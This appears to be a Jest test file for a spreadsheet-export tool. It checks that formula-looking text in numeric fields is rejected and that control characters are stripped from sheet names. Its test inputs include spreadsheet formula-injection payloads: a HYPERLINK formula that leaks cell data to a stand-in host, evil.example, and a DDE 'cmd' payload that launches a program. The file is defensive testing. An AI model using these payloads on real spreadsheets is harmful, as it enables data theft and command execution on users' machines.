/** Issue 13: a figure typed as formula-looking text is an error, never the digit inside it. */
import { parseFigure } from '../../src/core/numbers';
import { safeSheetName } from '../../src/core/layout/names';

describe('parseFigure: formula-looking text', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=5',
    '= 1+1',
    '@SUM(A1:A3)',
    '+A1',
    '-SUM(B2:B9)',
    '+cmd|\' /C calc\'!A0',
  ])('%s is an error, not a number', (text) => {
    const p = parseFigure(text, 'count');
    expect(p.value).toBeNull();
    expect(p.issue).toMatchObject({ severity: 'error', rule: 'figure.formula-text' });
    expect(p.issue!.message).toContain('công thức');
  });

  it('keeps reading numbers with signs and words as before', () => {
    expect(parseFigure('-5', 'count').issue?.rule).toBe('figure.negative');
    expect(parseFigure('+5', 'count').value).toBe(5);
    expect(parseFigure('15 người', 'count')).toMatchObject({ value: 15, issue: { rule: 'figure.text-number' } });
    expect(parseFigure('1.031', 'count')).toEqual({ value: 1031 });
  });
});

describe('safeSheetName: control characters never reach a sheet name', () => {
  it('replaces C0, DEL and C1 controls', () => {
    const name = safeSheetName('Mẫu \u001b[2JHương\u0007Lộc\u009b1A\u007f');
    expect(name).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(name).toContain('Hương');
  });
});
